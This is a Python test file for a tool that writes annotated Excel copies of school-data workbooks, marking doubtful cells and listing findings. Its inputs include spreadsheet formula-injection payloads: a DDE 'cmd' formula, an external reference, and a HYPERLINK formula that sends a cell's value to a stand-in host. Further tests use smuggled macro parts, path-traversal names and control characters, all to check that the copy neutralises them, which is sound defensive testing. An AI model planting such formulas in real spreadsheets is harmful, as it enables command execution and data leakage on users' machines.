"""The annotated copy: the doubtful cells marked, the rest as it was, nothing that runs."""

from __future__ import annotations

import io
import time
import zipfile

import openpyxl
import pandas as pd
import pytest
from openpyxl.comments import Comment

from gaibao_geo.errors import DataError
from gaibao_geo.intake.columns.match_record import Match
from gaibao_geo.intake.dataset import Dataset
from gaibao_geo.intake.files.sheets import Sheet
from gaibao_geo.intake.layouts.layout import Layout
from gaibao_geo.intake.loaded import typed
from gaibao_geo.io import annotated as room
from gaibao_geo.io.annotated import COLOURS, annotated, copy_name, write_annotated
from gaibao_geo.io.findings_sheet import ACCEPT, ID
from gaibao_geo.tables.findings import Finding, Repair, Report
from gaibao_geo.tables.schema import TABLES
from gaibao_geo.words import Both

NAMES = ["school_id", "name", "pupils", "note"]
HEADERS = ["学校标识码", "学校名称", "在校生数", "备注"]
ROWS = [["S1", "热龙乡小学", 120, ""], ["S2", "达孜乡小学", "9O", "=cmd|' /c calc'!A0"],
        ["S3", "卡麦乡小学", 60, "@x\n第二行"]]  # fmt: skip
BAD = {"kind": Both("整数", "a whole number"), "unit": "人"}


def part_of(file, sheet, cells, header=2):
    raw = pd.DataFrame(cells, index=range(1, len(cells) + 1), dtype=object)
    layout = Layout(Sheet(file, sheet, raw), (header,), tuple(HEADERS), ("",) * 4,
                    raw.iloc[header:])  # fmt: skip
    places = {name: place for place, name in enumerate(NAMES)}
    match = Match(TABLES["schools"], layout, layout.body.set_axis(NAMES, axis=1),
                  dict(zip(NAMES, HEADERS, strict=True)), {}, places, {})  # fmt: skip
    return typed(match)[0]


def dataset(path, part, *findings):
    return Dataset("x", Both("示例", "Example"), True, Both("", ""), {"schools": part.frame}, path,
                   "", Report(findings), (part,))  # fmt: skip


@pytest.fixture
def book(tmp_path):
    """A workbook as an office has them: a title, a header, a formula, a comment."""
    made = openpyxl.Workbook()
    sheet = made.active
    sheet.title = "2015年"
    sheet.append(["江孜县学校基本情况"])
    sheet.merge_cells("A1:D1")
    for row in [HEADERS, *ROWS]:
        sheet.append(row)
    sheet["D4"].data_type = "s"
    sheet["D5"].data_type = "s"
    sheet["C6"] = "=SUM(C3:C5)"
    sheet["C4"].comment = Comment("张老师：待核", "张")
    other = made.create_sheet("说明")
    other["A1"] = "不动的表"
    made.save(tmp_path / "学校.xlsx")
    return tmp_path / "学校.xlsx"


@pytest.fixture
def found(book):
    title = ["江孜县学校基本情况", None, None, None]
    part = part_of("学校.xlsx", "2015年", [title, HEADERS, *ROWS])
    unread = part.doubt("bad_value", "error", 1, column="pupils", value="9O", values=BAD,
                        repair=Repair("set", "90"))  # fmt: skip
    row = part.doubt("duplicate_key", "warning", 2, value="S3", values={"first": 3})
    column = part.doubt("unknown_column", "note", column="note")
    above = Finding("unknown_file", "note", "学校.xlsx", "2015年", 1, values={"known": "x"},
                    cell="C1")  # fmt: skip
    return dataset(book.parent, part, unread, row, column, above)


def reopened(data, file="学校.xlsx"):
    return openpyxl.load_workbook(io.BytesIO(annotated(data, file)))


def colour(cell):
    return cell.fill.fgColor.rgb[-6:] if cell.fill.fill_type else None


def test_cells_rows_and_columns_are_marked_by_how_bad_it_is(found):
    sheet = reopened(found)["2015年"]
    assert colour(sheet["C4"]) == COLOURS["error"]     # the cell itself
    assert colour(sheet["A5"]) == COLOURS["warning"]   # a whole row: its first cell
    assert colour(sheet["D2"]) == COLOURS["note"]      # a whole column: its header
    assert colour(sheet["A1"]) == COLOURS["note"]      # C1, which is merged into it
    marked = [cell.coordinate for row in sheet for cell in row if colour(cell)]
    assert sorted(marked) == ["A1", "A5", "C4", "D2"]


def test_the_comment_holds_both_languages_the_id_and_what_was_there(found):
    unread = found.report.findings[0]
    text = reopened(found)["2015年"]["C4"].comment.text
    assert "张老师：待核" in text
    assert f"{unread.id} [错误] “9O”不是整数" in text
    assert "建议：读作“90”" in text
    assert "[error] “9O” is not a whole number" in text


def test_the_rest_is_as_it_was_and_the_file_itself_untouched(book, found):
    before = book.read_bytes()
    made = reopened(found)
    old = openpyxl.load_workbook(book)
    for name in old.sheetnames:
        cells = {cell.coordinate: cell.value for row in old[name] for cell in row}
        assert {c.coordinate: c.value for row in made[name] for c in row} == cells
    assert made["2015年"]["C6"].value == "=SUM(C3:C5)"
    assert made["2015年"]["C6"].data_type == "f"
    assert book.read_bytes() == before


def test_the_last_sheet_lists_every_finding_with_a_way_to_its_cell(found):
    made = reopened(found)
    sheet = made[made.sheetnames[-1]]
    assert sheet.title == "检查结果"
    assert made.active is sheet
    assert [one.title for one in made if one.sheet_view.tabSelected] == ["检查结果"]
    top = next(row for row in range(1, 30) if str(sheet.cell(row, ID).value).startswith("编号"))
    assert sheet.auto_filter.ref == f"A{top}:L{top + 4}"
    assert sheet.freeze_panes == f"A{top + 1}"
    first = [sheet.cell(top + 1, column).value for column in range(1, 13)]
    assert first[0] == found.report.findings[0].id
    assert first[1] == "错误\nerror"
    assert first[3] == "C4"
    assert first[9] == "读作“90”\nread it as “90”"
    assert sheet.cell(top + 1, 4).hyperlink.location == "'2015年'!C4"
    assert "共 1 处错误，1 处提醒，2 处备注" in sheet["A1"].value
    assert [colour(sheet.cell(2, column)) for column in (1, 5, 7)] == list(COLOURS.values())
    words = " ".join(str(sheet.cell(row, 1).value) for row in range(top, 20))
    assert "公式保留原样" in words
    assert "Formulas are kept" in words
    (offered,) = sheet.data_validations.dataValidation
    assert offered.formula1 == '"是,无误"'
    assert str(offered.sqref).startswith(sheet.cell(top + 1, ACCEPT).coordinate)


def test_what_reaches_outside_the_workbook_is_only_text(book, found):
    made = openpyxl.load_workbook(book)
    sheet = made["2015年"]
    sheet["F1"] = "=[1]Sheet1!A1"
    sheet["F2"] = "=cmd|'/c calc'!A0"
    sheet["F3"] = '=HYPERLINK("http://example.invalid/?"&A3)'
    sheet["F4"] = "=IF(C3>0,C3*2,0)"
    sheet["F5"].hyperlink = "http://example.invalid/"
    made.save(book)
    copy = reopened(found)
    types = [copy["2015年"][name].data_type for name in ("F1", "F2", "F3", "F4")]
    assert types == ["s", "s", "s", "f"]
    assert copy["2015年"]["F5"].hyperlink is None
    last = copy[copy.sheetnames[-1]]
    assert any("只作为文字保留" in str(cell.value) for row in last for cell in row)


def test_macros_and_links_are_not_in_the_copy(book, found):
    with zipfile.ZipFile(book, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
        archive.writestr("xl/externalLinks/externalLink1.xml", b"<x/>")
    with zipfile.ZipFile(io.BytesIO(annotated(found, "学校.xlsx"))) as archive:
        names = " ".join(archive.namelist())
    assert "vba" not in names
    assert "externalLink" not in names


def test_another_kind_of_file_becomes_a_workbook_of_its_cells(tmp_path):
    part = part_of("schools.csv", "", [HEADERS, *ROWS], header=1)
    doubt = part.doubt("bad_value", "error", 1, column="pupils", value="9O", values=BAD)
    (tmp_path / "schools.csv").write_text("x", encoding="utf-8")
    made = reopened(dataset(tmp_path, part, doubt), "schools.csv")
    assert made.sheetnames == ["schools.csv", "检查结果"]
    sheet = made["schools.csv"]
    assert [cell.value for cell in sheet[2]] == ["S1", "热龙乡小学", 120, None]
    assert colour(sheet["C3"]) == COLOURS["error"]
    assert sheet["C3"].comment
    assert sheet["D4"].value == "@x\n第二行"
    for name in ("D3", "D4"):  # =cmd|… and @x
        assert sheet[name].data_type == "s"
        assert sheet[name].quotePrefix


def test_names_that_no_sheet_may_have_and_marks_that_no_cell_may_hold(tmp_path):
    name = "a/[学校]*:?\\\u202e" + "长" * 40
    odd = [["S1", "热龙\x00乡\x1f小学\ufffe", float("inf"), "x" * 40_000], *ROWS[1:]]
    part = part_of("学校.xls", name, [HEADERS, *odd], header=1)
    doubt = part.doubt("bad_value", "error", 0, column="name", value="\x00\n\ud800",
                       values={"kind": "\x01", "unit": "\u202e"})  # fmt: skip
    made = reopened(dataset(tmp_path, part, doubt), "学校.xls")
    sheet = made[made.sheetnames[0]]
    assert len(sheet.title) <= 31
    assert sheet["B2"].value == r"热龙\u0000乡\u001f小学\ufffe"
    assert len(sheet["D2"].value) <= 32_767
    assert r"\u0000" in sheet["B2"].comment.text


def test_a_broken_workbook_is_rebuilt_from_what_was_read(book, found):
    book.write_bytes(book.read_bytes()[:500])
    made = reopened(found)
    assert colour(made["2015年"]["C4"]) == COLOURS["error"]
    last = made[made.sheetnames[-1]]
    assert any("按读到的单元格新建" in str(cell.value) for row in last for cell in row)


def test_a_workbook_that_unpacks_to_too_much_is_not_opened(book, found, monkeypatch):
    monkeypatch.setattr(room, "MOST_BYTES", 1_000)
    opened = []
    monkeypatch.setattr(room.openpyxl, "load_workbook", lambda *a, **k: opened.append(a))
    made = annotated(found, "学校.xlsx")
    assert opened == []
    monkeypatch.undo()
    sheet = openpyxl.load_workbook(io.BytesIO(made))["2015年"]
    assert colour(sheet["C4"]) == COLOURS["error"]


def test_of_a_very_large_file_only_the_doubtful_rows_are_copied_where_they_stand(tmp_path):
    many = [[f"S{n}", "小学", n, ""] for n in range(60_000)]
    part = part_of("schools.csv", "", [HEADERS, *many], header=1)
    doubt = part.doubt("bad_value", "error", 51_234, column="pupils", value="x", values=BAD)
    started = time.monotonic()
    made = reopened(dataset(tmp_path, part, doubt), "schools.csv")
    assert time.monotonic() - started < 20
    sheet = made["schools.csv"]
    assert sheet["A1"].value == "学校标识码"
    assert sheet["A51236"].value == "S51234"  # row 1 is the header, S0 stands in row 2
    assert sheet["A51235"].value is None
    assert colour(sheet["C51236"]) == COLOURS["error"]
    last = made[made.sheetnames[-1]]
    assert any("只含表头和有问题的行" in str(cell.value) for row in last for cell in row)


def test_many_findings_of_one_cell_and_very_many_of_a_sheet(tmp_path, monkeypatch):
    monkeypatch.setattr(room, "MOST_COMMENTS", 2)
    part = part_of("schools.csv", "", [HEADERS, *ROWS], header=1)
    doubts = [part.doubt("bad_value", "warning", 0, column="pupils", value=str(n), values=BAD)
              for n in range(5)]  # fmt: skip
    rest = [part.doubt("bad_value", "error", at, column="name", value="x", values=BAD)
            for at in range(3)]  # fmt: skip
    sheet = reopened(dataset(tmp_path, part, *doubts, *rest), "schools.csv")["schools.csv"]
    commented = [cell.coordinate for row in sheet for cell in row if cell.comment]
    assert len(commented) == 2  # the errors before the warnings
    assert set(commented) <= {"B2", "B3", "B4"}
    assert colour(sheet["C2"]) == COLOURS["warning"]
    monkeypatch.setattr(room, "MOST_COMMENTS", 9)
    sheet = reopened(dataset(tmp_path, part, *doubts), "schools.csv")["schools.csv"]
    assert "另有 2 条" in sheet["C2"].comment.text


def test_a_file_that_could_not_be_read_still_gets_its_list(tmp_path):
    part = part_of("别的.csv", "", [HEADERS, *ROWS], header=1)
    (tmp_path / "坏.xlsx").write_bytes(b"PK")
    bad = Finding("bad_csv", "error", "坏.xlsx", values={"reason": "=1+1"})
    made = reopened(dataset(tmp_path, part, bad), "坏.xlsx")
    assert made.sheetnames == ["检查结果"]


def test_copies_are_written_beside_and_never_among_the_files(found, tmp_path):
    with pytest.raises(DataError, match="原始数据所在"):
        write_annotated(found, tmp_path)
    (file,) = write_annotated(found, tmp_path / "copies")
    assert file.name == "学校_检查结果.xlsx"
    assert openpyxl.load_workbook(file)


def test_a_copy_is_called_after_its_file_and_stays_in_its_folder():
    assert copy_name("学校.csv", ["学校_检查结果.xlsx"]) == "学校.csv_检查结果.xlsx"
    assert "/" not in copy_name("../../x/学校.csv")
    assert not copy_name("../学校.csv").startswith(".")
